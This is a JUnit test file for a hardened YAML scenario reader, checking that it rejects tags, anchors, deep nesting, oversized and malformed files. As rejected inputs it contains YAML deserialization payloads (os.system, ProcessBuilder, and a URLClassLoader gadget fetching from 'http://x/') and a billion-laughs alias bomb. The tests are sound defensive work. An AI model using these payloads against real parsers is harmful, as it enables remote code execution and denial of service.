package no.gpsim.scenario;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The YAML reader never builds types named in a file, refuses anchors, aliases and tags (so an
 * alias bomb cannot expand), deep nesting and oversized files, and says where a file is wrong.
 */
class SafeParsingTest {

    @TempDir
    Path dir;

    private YamlNode.Mapping read(String text) throws IOException {
        Path file = dir.resolve("s.yaml");
        Files.writeString(file, text);
        return new YamlReader().read(file);
    }

    private ScenarioException refused(String text) {
        return assertThrows(ScenarioException.class, () -> read(text));
    }

    private String at(int line, int column) {
        return dir.resolve("s.yaml") + ":" + line + (column > 0 ? ":" + column : "") + ": ";
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "x: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
        "x: !!java.lang.ProcessBuilder [[touch, /tmp/pwned]]\n",
        "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
        "x: !<tag:yaml.org,2002:java.io.File> /tmp\n",
        "x: !local 1\n",
        "x: !!str 1\n",
        "--- !!map\nx: 1\n",
    })
    void tagsAreRefusedSoNoTypeIsEverBuilt(String text) {
        ScenarioException e = refused(text);
        assertTrue(e.getMessage().contains("YAML tags (!"), e.getMessage());
        assertTrue(e.getMessage().contains("are not allowed in scenario files"), e.getMessage());
        assertFalse(Files.exists(Path.of("/tmp/pwned")));
    }

    @Test
    void aBillionLaughsIsRefusedAtTheFirstAnchorWithoutExpanding() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 30; i++) {
            bomb.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 10; j++) {
                bomb.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            bomb.append("]\n");
        }
        ScenarioException e = assertTimeoutPreemptively(Duration.ofSeconds(1), () -> refused(bomb.toString()));
        assertEquals(at(1, 5) + "YAML anchors (&a0) are not allowed in scenario files", e.getMessage());
    }

    @Test
    void aliasesAndMergeKeysAreRefused() {
        assertEquals(at(1, 4) + "YAML aliases (*x) are not allowed in scenario files", refused("a: *x\n").getMessage());
        assertTrue(refused("base: &b {years: 5}\nother:\n  <<: *b\n").getMessage().contains("YAML anchors (&b)"));
    }

    @Test
    void deepNestingIsRefusedBeforeItIsRead() {
        String flow = "x: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n";
        ScenarioException e = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> refused(flow));
        assertTrue(e.getMessage().endsWith("nesting is deeper than 20 levels"), e.getMessage());
        StringBuilder block = new StringBuilder();
        for (int i = 0; i < 30; i++) {
            block.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        block.append("  ".repeat(30)).append("v: 1\n");
        assertEquals(at(21, 41) + "nesting is deeper than 20 levels", refused(block.toString()).getMessage());
        StringBuilder ok = new StringBuilder();
        for (int i = 0; i < 19; i++) {
            ok.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        ok.append("  ".repeat(19)).append("v: 1\n");
        assertTimeoutPreemptively(Duration.ofSeconds(1), () -> read(ok.toString()), "20 levels are read");
    }

    @Test
    void oversizedFilesAreRefusedUnread() throws IOException {
        Path big = dir.resolve("big.yaml");
        Files.write(big, ("# " + "x".repeat(1000) + "\n").repeat(1001).getBytes(StandardCharsets.UTF_8));
        ScenarioException e = assertThrows(ScenarioException.class, () -> new YamlReader().read(big));
        assertEquals(big + ": the file is " + Files.size(big) + " bytes; scenario files are limited to 1000000 bytes",
                e.getMessage());
    }

    @Test
    void aLongStringWithinTheLimitIsReadAndQuotedShort() throws IOException {
        ScenarioException e = assertThrows(ScenarioException.class, () -> new ScenarioLoader().load(write(
                "years: '" + "9".repeat(900_000) + "'\n")));
        assertTrue(e.getMessage().length() < 300, e.getMessage().length() + " characters");
        assertTrue(e.getMessage().contains("years: found the text \"9999"), e.getMessage());
    }

    private Path write(String text) throws IOException {
        Path file = dir.resolve("s.yaml");
        Files.writeString(file, text);
        return file;
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "a: 1\\na: 2\\n|2|1|the key 'a' is given twice in the same map (first at line 1)",
        "a:\\n\\tb: 1\\n|2|1|a tab is used for indentation; YAML allows only spaces",
        "a: 1\\n---\\nb: 2\\n|3|1|more than one YAML document in the file; a scenario is a single document",
        "a: [1, 2\\n|2|1|YAML syntax error: expected ',' or ']', but got <stream end> (while parsing a flow sequence)",
        "a: b: c\\n|1|5|YAML syntax error: mapping values are not allowed here",
        "? [a]\\n: 1\\n|1|4|a key must be a name, found a list as a key",
        "- 1\\n- 2\\n|1|1|a scenario must be a YAML map of keys, found a list",
        "a: 1\\nb: \u0007\\n|2|4|the character U+0007 is not allowed in a YAML file",
        "years: 5|1|0|the file does not end with a line break, so it may be cut short; check its end (last line: "
            + "'years: 5') and end it with a line break",
        "# only a comment\\n|0|0|the file has no keys; a scenario is a YAML map of keys",
    })
    void malformedFilesAreReportedWithTheirLine(String text, int line, int column, String message) {
        String unescaped = text.replace("\\n", "\n").replace("\\t", "\t");
        String where = line == 0 ? dir.resolve("s.yaml") + ": " : at(line, column);
        assertEquals(where + message, refused(unescaped).getMessage());
    }

    @Test
    void textThatIsNotUtf8IsReportedWithItsLine() throws IOException {
        Path file = dir.resolve("latin1.yaml");
        Files.write(file, "name: x\ndescription: Troms\u00F8\n".getBytes(StandardCharsets.ISO_8859_1));
        ScenarioException e = assertThrows(ScenarioException.class, () -> new YamlReader().read(file));
        assertEquals(file + ":2: the file is not UTF-8 text; save it as UTF-8", e.getMessage());
    }

    @Test
    void plainScalarsFollowTheYaml12CoreSchema() throws IOException {
        YamlNode.Mapping m = read("""
                a: yes
                b: no
                c: on
                d: 0x1F
                e: 1_000
                f: .5
                g: .nan
                h: True
                i: ~
                j: ''
                k: '12'
                l: 017
                m: 2028-01
                n:
                """);
        assertKind(m, "a", YamlNode.Scalar.Kind.STRING);
        assertKind(m, "b", YamlNode.Scalar.Kind.STRING);
        assertKind(m, "c", YamlNode.Scalar.Kind.STRING);
        assertKind(m, "d", YamlNode.Scalar.Kind.STRING);
        assertKind(m, "e", YamlNode.Scalar.Kind.INTEGER);
        assertKind(m, "f", YamlNode.Scalar.Kind.DECIMAL);
        assertKind(m, "g", YamlNode.Scalar.Kind.DECIMAL);
        assertKind(m, "h", YamlNode.Scalar.Kind.BOOLEAN);
        assertKind(m, "i", YamlNode.Scalar.Kind.NULL);
        assertKind(m, "j", YamlNode.Scalar.Kind.STRING);
        assertKind(m, "k", YamlNode.Scalar.Kind.STRING);
        assertKind(m, "l", YamlNode.Scalar.Kind.INTEGER);
        assertKind(m, "m", YamlNode.Scalar.Kind.STRING);
        assertKind(m, "n", YamlNode.Scalar.Kind.NULL);
    }

    private static void assertKind(YamlNode.Mapping m, String key, YamlNode.Scalar.Kind kind) {
        assertEquals(kind, ((YamlNode.Scalar) m.entries().get(key).value()).scalarKind(), key);
    }

    @Test
    void aByteOrderMarkAndWindowsLineBreaksAreFine() throws IOException {
        YamlNode.Mapping m = read("\uFEFFyears: 5\r\nname: x\r\n");
        assertEquals(2, m.entries().size());
        assertEquals(2, m.entries().get("name").keyLocation().line());
    }
}
